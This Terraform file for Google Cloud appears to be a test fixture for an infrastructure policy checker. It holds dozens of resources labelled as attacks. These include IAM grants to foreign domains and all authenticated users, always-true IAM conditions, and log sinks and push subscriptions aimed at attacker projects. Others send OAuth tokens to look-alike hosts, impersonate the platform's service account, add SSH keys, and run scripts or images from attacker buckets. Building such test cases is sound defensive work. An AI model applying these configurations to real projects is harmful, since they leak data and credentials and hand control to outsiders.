data "google_project" "here" {}
resource "google_service_account" "p" {
  account_id   = "p${var.name_suffix}"
  display_name = "infraai-tf-apply@${var.project_id}.iam.gserviceaccount.com"
}
resource "google_firestore_database" "d" {
  name        = "d${var.name_suffix}"
  location_id = var.region
  type        = "FIRESTORE_NATIVE"
}
resource "google_pubsub_topic" "pt" {
  name = "pt${var.name_suffix}"
}
resource "google_storage_bucket" "pb" {
  name     = "${var.project_id}-pb${var.name_suffix}"
  location = var.region
}
resource "google_bigquery_dataset" "pd" {
  dataset_id = "pd${replace(var.name_suffix, "-", "_")}"
  location   = var.region
}
resource "google_kms_key_ring" "pr" {
  name     = "pr${var.name_suffix}"
  location = var.region
}
resource "google_kms_crypto_key" "pk" {
  name     = "pk${var.name_suffix}"
  key_ring = google_kms_key_ring.pr.id
}
resource "google_artifact_registry_repository" "pa" {
  repository_id = "pa${var.name_suffix}"
  location      = var.region
  format        = "DOCKER"
}
resource "google_cloud_run_v2_service" "ps" {
  name     = "ps${var.name_suffix}"
  location = var.region
  template {
    service_account = google_service_account.p.email
    containers {
      image = "us-docker.pkg.dev/cloudrun/container/hello"
    }
  }
}
resource "google_compute_network" "pn" {
  name                    = "pn${var.name_suffix}"
  auto_create_subnetworks = false
}
resource "google_compute_subnetwork" "pu" {
  name          = "pu${var.name_suffix}"
  region        = var.region
  network       = google_compute_network.pn.id
  ip_cidr_range = "10.9.0.0/24"
}
resource "google_container_cluster" "pc" {
  name                     = "pc${var.name_suffix}"
  location                 = var.region
  initial_node_count       = 1
  remove_default_node_pool = true
  network                  = google_compute_network.pn.id
  subnetwork               = google_compute_subnetwork.pu.id
  node_config {
    service_account = google_service_account.p.email
  }
}
# attack: the condition speaks of a database of another project
resource "google_project_iam_member" "documents" {
  project = var.project_id
  role    = "roles/datastore.user"
  member  = google_service_account.p.member
  condition {
    title      = "one"
    expression = "resource.name == \"projects/victim/databases/${google_firestore_database.d.name}\""
  }
}
# attack: the condition is always true
resource "google_project_iam_member" "documents_all" {
  project = var.project_id
  role    = "roles/datastore.user"
  member  = google_service_account.p.member
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/databases/${google_firestore_database.d.name}\" || 1 == 1"
  }
}
# attack: a worker of Google's reaches all buckets but one
resource "google_project_iam_member" "worker" {
  project = var.project_id
  role    = "roles/composer.worker"
  member  = google_service_account.p.member
  condition {
    title      = "no-buckets"
    expression = "!resource.name.startsWith(\"projects/_/buckets/none-such\")"
  }
}
# attack: everybody with an account at Google comes in
resource "google_iap_web_backend_service_iam_member" "everybody" {
  web_backend_service = google_compute_backend_service.pw.name
  role                = "roles/iap.httpsResourceAccessor"
  member              = "allAuthenticatedUsers"
}
resource "google_compute_health_check" "ph" {
  name = "ph${var.name_suffix}"
  tcp_health_check {
    port = 80
  }
}
resource "google_compute_backend_service" "pw" {
  name          = "pw${var.name_suffix}"
  health_checks = [google_compute_health_check.ph.id]
}
# attack: a whole foreign domain comes in
resource "google_iap_web_backend_service_iam_member" "domain" {
  web_backend_service = google_compute_backend_service.pw.name
  role                = "roles/iap.httpsResourceAccessor"
  member              = "domain:attacker.example"
}
# attack: a group of a foreign domain looks at the project
resource "google_project_iam_member" "group" {
  project = var.project_id
  role    = "roles/logging.viewer"
  member  = "group:crew@attacker.example"
}
# attack: people get a role outside the list
resource "google_project_iam_member" "people" {
  project = var.project_id
  role    = "roles/logging.privateLogViewer"
  member  = "group:staff@example.com"
}
# attack: the storage agent of another project uses the key
resource "google_kms_crypto_key_iam_member" "agent" {
  crypto_key_id = google_kms_crypto_key.pk.id
  role          = "roles/cloudkms.cryptoKeyEncrypterDecrypter"
  member        = "serviceAccount:service-999999999999@gs-project-accounts.iam.gserviceaccount.com"
}
# attack: another of Google's accounts uses the key
resource "google_kms_crypto_key_iam_member" "other_agent" {
  crypto_key_id = google_kms_crypto_key.pk.id
  role          = "roles/cloudkms.cryptoKeyDecrypter"
  member        = "serviceAccount:service-${data.google_project.here.number}@compute-system.iam.gserviceaccount.com"
}
# attack: the agent of another project publishes
resource "google_pubsub_topic_iam_member" "agent" {
  topic  = google_pubsub_topic.pt.id
  role   = "roles/pubsub.publisher"
  member = "serviceAccount:service-999999999999@gcp-sa-pubsub.iam.gserviceaccount.com"
}
# attack: logs go to a stranger's bucket
resource "google_logging_project_sink" "bucket" {
  name                   = "bucket${var.name_suffix}"
  destination            = "storage.googleapis.com/attackers-logs"
  filter                 = "(resource.labels.service_name:\"${var.name_suffix}\")"
  unique_writer_identity = true
}
# attack: logs go to a topic of another project
resource "google_logging_project_sink" "topic" {
  name                   = "topic${var.name_suffix}"
  destination            = "pubsub.googleapis.com/projects/attacker/topics/${google_pubsub_topic.pt.name}"
  filter                 = "(resource.labels.service_name:\"${var.name_suffix}\")"
  unique_writer_identity = true
}
# attack: a query runs as the platform
resource "google_bigquery_data_transfer_config" "query" {
  display_name           = "query${var.name_suffix}"
  data_source_id         = "scheduled_query"
  destination_dataset_id = google_bigquery_dataset.pd.dataset_id
  location               = var.region
  service_account_name   = "infraai-tf-apply@${var.project_id}.iam.gserviceaccount.com"
  params                 = { query = "SELECT 1" }
}
# attack: a job calls as the platform
resource "google_cloud_scheduler_job" "as" {
  name     = "as${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = google_cloud_run_v2_service.ps.uri
    oidc_token {
      service_account_email = google_service_account.p.display_name
    }
  }
}
# attack: a token for all of Google Cloud is sent to an address that only begins like one's own
resource "google_cloud_scheduler_job" "to" {
  name     = "to${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = "${google_cloud_run_v2_service.ps.uri}.attacker.example/"
    oauth_token {
      service_account_email = google_service_account.p.email
    }
  }
}
# attack: tasks are called as the platform
resource "google_cloud_tasks_queue" "as" {
  name     = "as${var.name_suffix}"
  location = var.region
  http_target {
    uri_override {
      host = trimprefix(google_cloud_run_v2_service.ps.uri, "https://")
    }
    oidc_token {
      service_account_email = "infraai-push@${var.project_id}.iam.gserviceaccount.com"
    }
  }
}
# attack: tasks go to a stranger
resource "google_cloud_tasks_queue" "to" {
  name     = "to${var.name_suffix}"
  location = var.region
  http_target {
    uri_override {
      host = "collect.example"
    }
    oidc_token {
      service_account_email = google_service_account.p.email
    }
  }
}
# attack: the platform builds a function
resource "google_cloudfunctions2_function" "built" {
  name     = "built${var.name_suffix}"
  location = var.region
  build_config {
    runtime           = "python312"
    entry_point       = "main"
    docker_repository = google_artifact_registry_repository.pa.id
    service_account   = "projects/${var.project_id}/serviceAccounts/infraai-tf-apply@${var.project_id}.iam.gserviceaccount.com"
    source {
      storage_source {
        bucket = google_storage_bucket.pb.name
        object = "code.zip"
      }
    }
  }
  service_config {
    service_account_email = google_service_account.p.email
  }
}
# attack: nobody is named who builds a function, so the project's default account does
resource "google_cloudfunctions2_function" "default_builder" {
  name     = "default-builder${var.name_suffix}"
  location = var.region
  build_config {
    runtime           = "python312"
    entry_point       = "main"
    docker_repository = google_artifact_registry_repository.pa.id
    source {
      storage_source {
        bucket = google_storage_bucket.pb.name
        object = "code.zip"
      }
    }
  }
  service_config {
    service_account_email = google_service_account.p.email
  }
}
# attack: events of another project's topic start a function, as the platform
resource "google_cloudfunctions2_function" "events" {
  name     = "events${var.name_suffix}"
  location = var.region
  build_config {
    runtime           = "python312"
    entry_point       = "main"
    docker_repository = google_artifact_registry_repository.pa.id
    service_account   = google_service_account.p.name
    source {
      storage_source {
        bucket = google_storage_bucket.pb.name
        object = "code.zip"
      }
    }
  }
  service_config {
    service_account_email = google_service_account.p.email
  }
  event_trigger {
    event_type            = "google.cloud.pubsub.topic.v1.messagePublished"
    pubsub_topic          = "projects/${var.project_id}/topics/run-requested"
    service_account_email = "infraai-push@${var.project_id}.iam.gserviceaccount.com"
  }
}
# attack: pods of another project's clusters act as an own account
resource "google_service_account_iam_member" "pods" {
  service_account_id = google_service_account.p.name
  role               = "roles/iam.workloadIdentityUser"
  member             = "serviceAccount:victim.svc.id.goog[default/app]"
}
# attack: an own account makes tokens of the platform's
resource "google_service_account_iam_member" "tokens" {
  service_account_id = "projects/${var.project_id}/serviceAccounts/infraai-tf-apply@${var.project_id}.iam.gserviceaccount.com"
  role               = "roles/iam.serviceAccountTokenCreator"
  member             = google_service_account.p.member
}
# attack: a cluster trusts the pods of another project
resource "google_container_cluster" "pool" {
  name                     = "pool${var.name_suffix}"
  location                 = var.region
  initial_node_count       = 1
  remove_default_node_pool = true
  network                  = google_compute_network.pn.id
  subnetwork               = google_compute_subnetwork.pu.id
  node_config {
    service_account = google_service_account.p.email
  }
  workload_identity_config {
    workload_pool = "victim.svc.id.goog"
  }
}
# attack: nodes let somebody in by a key
resource "google_container_node_pool" "keys" {
  name    = "keys${var.name_suffix}"
  cluster = google_container_cluster.pc.id
  node_config {
    machine_type    = "e2-medium"
    service_account = google_service_account.p.email
    metadata        = { ssh-keys = "eve:ssh-ed25519 AAAA eve" }
  }
}
# attack: nodes give pods their own account
resource "google_container_node_pool" "gives" {
  name    = "gives${var.name_suffix}"
  cluster = google_container_cluster.pc.id
  node_config {
    machine_type    = "e2-medium"
    service_account = google_service_account.p.email
    workload_metadata_config {
      mode = "GCE_METADATA"
    }
  }
}
# attack: a stranger owns a notebook
resource "google_workbench_instance" "owner" {
  name            = "owner${var.name_suffix}"
  location        = var.zone
  instance_owners = ["eve@attacker.example"]
  gce_setup {
    machine_type      = "e2-standard-4"
    disable_public_ip = true
    service_accounts {
      email = google_service_account.p.email
    }
  }
}
# attack: a stranger's script starts in a notebook
resource "google_workbench_instance" "script" {
  name     = "script${var.name_suffix}"
  location = var.zone
  gce_setup {
    machine_type      = "e2-standard-4"
    disable_public_ip = true
    metadata          = { post-startup-script = "gs://attacker/start.sh" }
    service_accounts {
      email = google_service_account.p.email
    }
  }
}
# attack: a notebook starts from a stranger's image
resource "google_workbench_instance" "image" {
  name     = "image${var.name_suffix}"
  location = var.zone
  gce_setup {
    machine_type      = "e2-standard-4"
    disable_public_ip = true
    vm_image {
      project = "attacker"
      family  = "backdoored"
    }
    service_accounts {
      email = google_service_account.p.email
    }
  }
}
# attack: rows are written to another project's table
resource "google_dataflow_job" "rows" {
  name                  = "rows${var.name_suffix}"
  region                = var.region
  template_gcs_path     = "gs://dataflow-templates/latest/PubSub_Subscription_to_BigQuery"
  temp_gcs_location     = "gs://${google_storage_bucket.pb.name}/dataflow"
  service_account_email = google_service_account.p.email
  ip_configuration      = "WORKER_IP_PRIVATE"
  machine_type          = "n1-standard-2"
  max_workers           = 1
  parameters = {
    inputSubscription = "projects/${var.project_id}/subscriptions/victim-zzzzz"
    outputTableSpec   = "attacker:loot.rows"
  }
}
# attack: a stranger's script changes each row
resource "google_dataflow_job" "code" {
  name                  = "code${var.name_suffix}"
  region                = var.region
  template_gcs_path     = "gs://dataflow-templates/latest/GCS_Text_to_BigQuery"
  temp_gcs_location     = "gs://${google_storage_bucket.pb.name}/dataflow"
  service_account_email = google_service_account.p.email
  ip_configuration      = "WORKER_IP_PRIVATE"
  machine_type          = "n1-standard-2"
  max_workers           = 1
  parameters            = { javascriptTextTransformGcsPath = "gs://attacker/transform.js" }
}
# attack: what workers keep for a while lies with a stranger
resource "google_dataflow_job" "temp" {
  name                  = "temp${var.name_suffix}"
  region                = var.region
  template_gcs_path     = "gs://dataflow-templates/latest/Word_Count"
  temp_gcs_location     = "gs://attacker/dataflow"
  service_account_email = google_service_account.p.email
  ip_configuration      = "WORKER_IP_PRIVATE"
  machine_type          = "n1-standard-2"
  max_workers           = 1
}
# attack: messages and a token go to a stranger that looks like a service
resource "google_pubsub_subscription" "pushes" {
  name  = "pushes${var.name_suffix}"
  topic = google_pubsub_topic.pt.id
  push_config {
    push_endpoint = "https://ps${var.name_suffix}-123.us-central1.run.app@collect.example/"
    oidc_token {
      service_account_email = google_service_account.p.email
    }
  }
}
# attack: a budget speaks to a topic of another project
resource "google_billing_budget" "tells" {
  billing_account = data.google_project.here.billing_account
  display_name    = "tells${var.name_suffix}"
  amount {
    specified_amount {
      units = "10"
    }
  }
  threshold_rules {
    threshold_percent = 1.0
  }
  all_updates_rule {
    pubsub_topic = "projects/attacker/topics/${google_pubsub_topic.pt.name}"
  }
}
